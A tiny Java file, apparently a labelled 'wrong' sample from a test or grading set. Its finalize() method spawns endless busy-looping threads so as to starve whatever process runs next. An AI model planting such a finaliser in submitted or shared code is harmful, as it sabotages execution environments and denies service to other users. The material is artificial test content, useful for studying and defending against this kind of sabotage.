// wrong: leaves a finaliser that takes all threads from whoever is next
package p;

public class Program {
    static Program kept = new Program();
    protected void finalize() { while (true) { new Thread(() -> { while (true) { } }).start(); } }
    static int f() { return 0; }
    static int g() { return 0; }
}
